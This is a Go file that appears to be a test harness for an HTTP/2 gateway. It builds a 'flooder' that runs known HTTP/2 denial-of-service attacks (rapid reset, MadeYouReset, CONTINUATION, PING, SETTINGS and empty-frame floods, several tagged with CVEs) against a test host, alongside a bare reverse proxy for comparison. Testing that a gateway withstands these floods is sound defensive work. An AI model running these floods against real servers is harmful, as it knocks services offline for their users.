package main

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"os"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flood is a way to keep an HTTP/2 server busy with little.
type flood struct {
	name  string
	begin func(*attacker) error // once for each connection
	send  func(*attacker) error // again and again
	says  string                // what the gateway says when it begins to read the connection slowly; "": it ends it
}

const (
	saysGivenUp = "a caller gives up most of its requests at once; its connection is read slowly"
	saysFrames  = "a caller sends frames that carry next to nothing; its connection is read slowly"
)

// floods are trap 80.
var floods = []flood{
	{name: "rapid reset, CVE-2023-39325", says: saysGivenUp, send: func(a *attacker) error {
		return errors.Join(a.open(true, true), a.framer.WriteRSTStream(a.stream, http2.ErrCodeCancel))
	}},
	{name: "made you reset, CVE-2025-8671", says: saysGivenUp, send: func(a *attacker) error {
		return errors.Join(a.open(true, true), a.framer.WriteWindowUpdate(a.stream, 0))
	}},
	{name: "CONTINUATION, CVE-2023-45288", begin: func(a *attacker) error { return a.open(true, false) }, send: func(a *attacker) error {
		return a.framer.WriteContinuation(a.stream, false, a.block("x-flood", strings.Repeat("x", 4000)))
	}},
	{name: "PING, CVE-2019-9512", says: saysFrames, send: func(a *attacker) error { return a.framer.WritePing(false, [8]byte{}) }},
	{name: "SETTINGS, CVE-2019-9515", says: saysFrames, send: func(a *attacker) error { return a.framer.WriteSettings() }},
	{name: "WINDOW_UPDATE", says: saysFrames, send: func(a *attacker) error { return a.framer.WriteWindowUpdate(0, 1) }},
	{name: "PRIORITY, CVE-2019-9513", says: saysFrames, send: func(a *attacker) error {
		return a.framer.WritePriority(1, http2.PriorityParam{StreamDep: 3})
	}},
	{name: "headers of no request", says: saysFrames, send: func(a *attacker) error {
		a.stream += 2
		return a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream, EndStream: true, EndHeaders: true, BlockFragment: a.block("no", "request")})
	}},
	{name: "empty CONTINUATION", says: saysFrames, begin: func(a *attacker) error { return a.open(true, false) }, send: func(a *attacker) error {
		return a.framer.WriteContinuation(a.stream, false, nil)
	}},
	{name: "empty DATA, CVE-2019-9518", says: saysFrames, begin: func(a *attacker) error { return a.open(false, true) }, send: func(a *attacker) error {
		return a.framer.WriteData(a.stream, false, nil)
	}},
}

// attacker is one connection, of which the frames are written by hand.
type attacker struct {
	framer *http2.Framer
	stream uint32
	coder  *hpack.Encoder
	buffer bytes.Buffer
}

// open begins a stream with a request.
func (a *attacker) open(whole, endHeaders bool) error {
	a.stream += 2
	return a.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: a.stream, EndStream: whole, EndHeaders: endHeaders,
		BlockFragment: a.block(":method", "POST", ":scheme", "https", ":authority", "gateway.test", ":path", "/up/flood"),
	})
}

// block codes headers.
func (a *attacker) block(pairs ...string) []byte {
	a.buffer.Reset()
	for pair := range slices.Chunk(pairs, 2) {
		_ = a.coder.WriteField(hpack.HeaderField{Name: pair[0], Value: pair[1], Sensitive: true}) // a buffer takes all
	}
	return a.buffer.Bytes()
}

// flooder is a program that floods ADDRESS in the way of NAME over two connections until its input ends. It writes a
// line for each connection that the other side ended.
const flooder = "flooder"

func mainThatFloods() {
	address, name := os.Args[1], os.Args[2]
	i := slices.IndexFunc(floods, func(f flood) bool { return f.name == name })
	for range 2 {
		go func() {
			for {
				floods[i].attack(address)
				fmt.Println("ended")
			}
		}()
	}
	_, _ = io.Copy(io.Discard, os.Stdin)
}

// bare is a program that does no more than net/http and ReverseProxy do of themselves: CERT and KEY are files, VENDOR a
// URL. It writes its address and serves until its input ends.
const bare = "bare-proxy"

func mainThatIsBare() {
	vendor, err := url.Parse(os.Args[3])
	l, err2 := net.Listen("tcp", "127.0.0.1:0")
	if err = errors.Join(err, err2); err != nil {
		panic(err)
	}
	fmt.Println(l.Addr())
	proxy := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) { r.SetURL(vendor) }, ErrorLog: log.New(io.Discard, "", 0)}
	go func() {
		server := &http.Server{Handler: proxy, ReadHeaderTimeout: time.Minute, ErrorLog: proxy.ErrorLog}
		panic(server.ServeTLS(l, os.Args[1], os.Args[2]))
	}()
	_, _ = io.Copy(io.Discard, os.Stdin)
}

// attack floods over one connection until the other side ends it.
func (f flood) attack(address string) {
	conn, err := tls.Dial("tcp", address, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // the test's own
	if err != nil {
		return
	}
	defer conn.Close()
	a := &attacker{framer: http2.NewFramer(conn, nil)}
	a.framer.AllowIllegalWrites = true
	a.stream--
	a.coder = hpack.NewEncoder(&a.buffer)
	_, err = io.WriteString(conn, http2.ClientPreface)
	err = errors.Join(err, a.framer.WriteSettings())
	drained := make(chan struct{})
	go func() {
		defer close(drained)
		_, _ = io.Copy(io.Discard, conn)
		conn.Close() // the gateway has ended it
	}()
	if f.begin != nil {
		err = errors.Join(err, f.begin(a))
	}
	for err == nil {
		err = f.send(a)
	}
	conn.Close()
	<-drained
}
